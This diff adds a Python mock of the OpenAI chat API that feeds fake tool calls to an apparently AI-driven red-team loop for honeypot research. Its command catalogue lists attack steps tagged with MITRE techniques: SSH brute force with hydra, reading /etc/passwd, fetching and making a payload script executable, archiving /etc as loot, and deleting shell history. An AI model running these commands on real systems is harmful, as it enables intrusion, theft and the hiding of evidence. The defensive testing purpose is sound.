@@ -0,0 +1,288 @@
+#!/usr/bin/env python3
+"""
+Local stand-in for the OpenAI chat completions API, used to load test the attack loop,
+main.py and the Blue reconfiguration pipeline without network access or API costs.
+
+Point the existing clients at it through the base URL, e.g.
+
+    python Scripts/mock_openai_server.py --port 8089 --latency 0.5 --rate-limit-prob 0.05
+    OPENAI_BASE_URL=http://127.0.0.1:8089/v1 OPENAI_API_KEY=mock python main.py
+
+Attacker requests (with tools) get terminal_input or terminate tool calls. Techniques and
+tactics are drawn from the enums of the request's tool schema, which are the
+technique_options and tactic_options of Red/sangria_config. Requests without tools get a
+follow-up text, a simulated terminal output, a honeypot config or an attack pattern list,
+depending on the prompt.
+"""
+import argparse
+import json
+import os
+import random
+import sys
+import threading
+import time
+import uuid
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+BASE_DIR = Path(__file__).resolve().parent.parent
+
+# (command, tactic, technique) used to build randomized terminal_input calls
+COMMAND_CATALOGUE = [
+    ("nmap -sn 172.{runid}.0.3", "TA0007:Discovery", "T1018:Remote System Discovery"),
+    ("nmap -sV -p 22,80,8080 172.{runid}.0.3", "TA0007:Discovery", "T1046:Network Service Discovery"),
+    ("curl -s http://172.{runid}.0.3:8080/", "TA0043:Reconnaissance", "T1595:Active Scanning"),
+    ("ssh -o StrictHostKeyChecking=no root@172.{runid}.0.3", "TA0001:Initial Access", "T1078:Valid Accounts"),
+    ("hydra -l root -P /usr/share/wordlists/fasttrack.txt ssh://172.{runid}.0.3", "TA0006:Credential Access", "T1110:Brute Force"),
+    ("uname -a", "TA0007:Discovery", "T1082:System Information Discovery"),
+    ("id", "TA0007:Discovery", "T1033:System Owner/User Discovery"),
+    ("cat /etc/passwd", "TA0007:Discovery", "T1087:Account Discovery"),
+    ("ls -la /home", "TA0007:Discovery", "T1083:File and Directory Discovery"),
+    ("ps aux", "TA0007:Discovery", "T1057:Process Discovery"),
+    ("crontab -l", "TA0003:Persistence", "T1053:Scheduled Task/Job"),
+    ("wget http://172.{runid}.0.2/payload.sh -O /tmp/p.sh", "TA0011:Command and Control", "T1105:Ingress Tool Transfer"),
+    ("chmod +x /tmp/p.sh", "TA0005:Defense Evasion", "T1222:File and Directory Permissions Modification"),
+    ("tar czf /tmp/loot.tgz /etc", "TA0009:Collection", "T1560:Archive Collected Data"),
+    ("rm -f ~/.bash_history", "TA0005:Defense Evasion", "T1070:Indicator Removal"),
+]
+
+class MockSettings:
+    """Settings shared by all request handlers."""
+    def __init__(self, args):
+        self.latency = args.latency
+        self.jitter = args.jitter
+        self.rate_limit_prob = args.rate_limit_prob
+        self.retry_after = args.retry_after
+        self.terminate_prob = args.terminate_prob
+        self.cached_fraction = args.cached_fraction
+        self.completion_tokens = args.completion_tokens
+        self.runid = os.getenv("RUNID", "11")
+        self.random = random.Random(args.seed)
+        self.random_lock = threading.Lock()
+        self.script = None
+        self.script_index = 0
+        if args.script:
+            with open(args.script, "r", encoding="utf8") as f:
+                self.script = json.load(f)
+        with open(BASE_DIR / "Blue_Lagoon" / "DefaultConfigs" / "config_01.json", "r", encoding="utf8") as f:
+            self.honeypot_config = json.load(f)
+        self.num_requests = 0
+        self.num_rate_limited = 0
+
+    def next_scripted(self):
+        """Return the next scripted response, cycling through the script."""
+        with self.random_lock:
+            step = self.script[self.script_index % len(self.script)]
+            self.script_index += 1
+        return step
+
+def tool_enum(tools, name, key):
+    """Return the enum of an argument of a tool in the request, if any."""
+    for tool in tools or []:
+        function = tool.get("function", {})
+        if function.get("name") == name:
+            return function.get("parameters", {}).get("properties", {}).get(key, {}).get("enum")
+    return None
+
+def pick_option(options, wanted, rng):
+    """Use the wanted MITRE option if the request allows it, otherwise a random allowed one."""
+    if not options:
+        return wanted
+    wanted_id = wanted.split(":")[0]
+    for option in options:
+        if option.split(":")[0] == wanted_id:
+            return option
+    return rng.choice(options)
+
+def make_tool_call(name, arguments):
+    return {
+        "id": f"call_{uuid.uuid4().hex[:24]}",
+        "type": "function",
+        "function": {"name": name, "arguments": json.dumps(arguments)}
+    }
+
+def attacker_message(request, settings):
+    """Build a terminal_input or terminate tool call for a request with tools."""
+    tools = request.get("tools")
+    if settings.script:
+        step = settings.next_scripted()
+        if "terminate" in step:
+            return None, [make_tool_call("terminate", {"success": bool(step["terminate"])})]
+        if "command" in step:
+            arguments = {
+                "input": step["command"],
+                "tactic_used": step.get("tactic", "TA0000:Harmless"),
+                "technique_used": step.get("technique", "T0000:Harmless")
+            }
+            return step.get("content"), [make_tool_call("terminal_input", arguments)]
+        return step.get("content", ""), None
+
+    with settings.random_lock:
+        terminate = settings.random.random() < settings.terminate_prob
+        command, tactic, technique = settings.random.choice(COMMAND_CATALOGUE)
+        tactic = pick_option(tool_enum(tools, "terminal_input", "tactic_used") or fallback_tactics(), tactic, settings.random)
+        technique = pick_option(tool_enum(tools, "terminal_input", "technique_used") or fallback_techniques(), technique, settings.random)
+        success = settings.random.random() < 0.5
+
+    if terminate:
+        return "I have exhausted the attack vectors, terminating.", [make_tool_call("terminate", {"success": success})]
+    arguments = {
+        "input": command.format(runid=settings.runid),
+        "tactic_used": tactic,
+        "technique_used": technique
+    }
+    return None, [make_tool_call("terminal_input", arguments)]
+
+_fallback_options = {}
+
+def fallback_techniques():
+    if "techniques" not in _fallback_options:
+        _load_fallback_options()
+    return _fallback_options["techniques"]
+
+def fallback_tactics():
+    if "tactics" not in _fallback_options:
+        _load_fallback_options()
+    return _fallback_options["tactics"]
+
+def _load_fallback_options():
+    try:
+        sys.path.append(str(BASE_DIR))
+        from Red import sangria_config
+        _fallback_options["techniques"] = sangria_config.technique_options
+        _fallback_options["tactics"] = sangria_config.tactic_options
+    except Exception as e:
+        print(f"Could not load MITRE options from Red.sangria_config: {e}")
+        _fallback_options["techniques"] = []
+        _fallback_options["tactics"] = []
+
+def text_content(request, settings):
+    """Answer a request without tools based on what the prompt asks for."""
+    last_message = str((request.get("messages") or [{}])[-1].get("content", ""))
+    if "Beelzebub honeypot configuration" in last_message and "Schema" in last_message:
+        config = dict(settings.honeypot_config)
+        config["id"] = str(uuid.uuid4())
+        return json.dumps(config)
+    if "MITRE ATT&CK tactics and techniques" in last_message:
+        with settings.random_lock:
+            steps = settings.random.sample(COMMAND_CATALOGUE, 3)
+        return json.dumps([{"tactic": tactic, "technique": technique} for _, tactic, technique in steps])
+    if "user query" in last_message.lower():
+        return "Vulnerabilities in mail servers, DNS resolvers and industrial control protocols."
+    if last_message.startswith("Run the command:"):
+        command = last_message[len("Run the command:"):].strip()
+        return f"{command}: simulated output\n┌──(root㉿mock)-[~]\n└─# "
+    return "The command completed, I will continue with the next step of the attack."
+
+def estimate_tokens(value) -> int:
+    return max(1, len(json.dumps(value, default=str)) // 4)
+
+def completion_response(request, settings):
+    if request.get("tools"):
+        content, tool_calls = attacker_message(request, settings)
+    else:
+        content, tool_calls = text_content(request, settings), None
+
+    prompt_tokens = estimate_tokens(request.get("messages")) + estimate_tokens(request.get("tools") or [])
+    completion_tokens = settings.completion_tokens or estimate_tokens([content, tool_calls])
+    cached_tokens = int(prompt_tokens * settings.cached_fraction) // 128 * 128
+    return {
+        "id": f"chatcmpl-{uuid.uuid4().hex}",
+        "object": "chat.completion",
+        "created": int(time.time()),
+        "model": request.get("model", "mock"),
+        "choices": [{
+            "index": 0,
+            "message": {
+                "role": "assistant",
+                "content": content,
+                "tool_calls": tool_calls,
+                "refusal": None
+            },
+            "finish_reason": "tool_calls" if tool_calls else "stop",
+            "logprobs": None
+        }],
+        "usage": {
+            "prompt_tokens": prompt_tokens,
+            "completion_tokens": completion_tokens,
+            "total_tokens": prompt_tokens + completion_tokens,
+            "prompt_tokens_details": {"cached_tokens": cached_tokens, "audio_tokens": 0},
+            "completion_tokens_details": {"reasoning_tokens": 0, "audio_tokens": 0,
+                "accepted_prediction_tokens": 0, "rejected_prediction_tokens": 0}
+        }
+    }
+
+def make_handler(settings):
+    class MockOpenAIHandler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def do_POST(self):
+            if not self.path.rstrip("/").endswith("/chat/completions"):
+                self.send_json(404, {"error": {"message": f"Unknown path {self.path}", "type": "invalid_request_error"}})
+                return
+
+            length = int(self.headers.get("Content-Length", 0))
+            request = json.loads(self.rfile.read(length) or b"{}")
+
+            with settings.random_lock:
+                settings.num_requests += 1
+                delay = max(0.0, settings.random.gauss(settings.latency, settings.jitter))
+                rate_limited = settings.random.random() < settings.rate_limit_prob
+                if rate_limited:
+                    settings.num_rate_limited += 1
+            time.sleep(delay)
+
+            if rate_limited:
+                self.send_json(429, {"error": {
+                    "message": "Rate limit reached for requests (mock).",
+                    "type": "requests",
+                    "code": "rate_limit_exceeded"
+                }}, {"Retry-After": str(settings.retry_after)})
+                return
+
+            self.send_json(200, completion_response(request, settings))
+
+        def send_json(self, status, body, headers=None):
+            payload = json.dumps(body).encode("utf8")
+            self.send_response(status)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(payload)))
+            for key, value in (headers or {}).items():
+                self.send_header(key, value)
+            self.end_headers()
+            self.wfile.write(payload)
+
+        def log_message(self, format, *args):
+            pass
+
+    return MockOpenAIHandler
+
+def main():
+    parser = argparse.ArgumentParser(description="Local mock of the OpenAI chat completions API.")
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=8089)
+    parser.add_argument("--latency", type=float, default=0.0, help="Mean response latency in seconds")
+    parser.add_argument("--jitter", type=float, default=0.0, help="Standard deviation of the latency in seconds")
+    parser.add_argument("--rate-limit-prob", type=float, default=0.0, help="Probability of answering 429")
+    parser.add_argument("--retry-after", type=float, default=1.0, help="Retry-After header of 429 answers")
+    parser.add_argument("--terminate-prob", type=float, default=0.05, help="Probability of a terminate tool call")
+    parser.add_argument("--cached-fraction", type=float, default=0.5, help="Fraction of prompt tokens reported as cached")
+    parser.add_argument("--completion-tokens", type=int, default=0, help="Fixed completion tokens, 0 estimates them")
+    parser.add_argument("--script", default=None, help="JSON list of scripted attacker steps, "
+        "e.g. [{\"command\": \"id\", \"technique\": \"T1033:System Owner/User Discovery\"}, {\"terminate\": true}]")
+    parser.add_argument("--seed", type=int, default=None)
+    args = parser.parse_args()
+
+    settings = MockSettings(args)
+    server = ThreadingHTTPServer((args.host, args.port), make_handler(settings))
+    print(f"Mock OpenAI server listening on http://{args.host}:{args.port}/v1")
+    try:
+        server.serve_forever()
+    except KeyboardInterrupt:
+        pass
+    finally:
+        server.server_close()
+        print(f"Served {settings.num_requests} requests, {settings.num_rate_limited} rate limited.")
+
+if __name__ == "__main__":
+    main()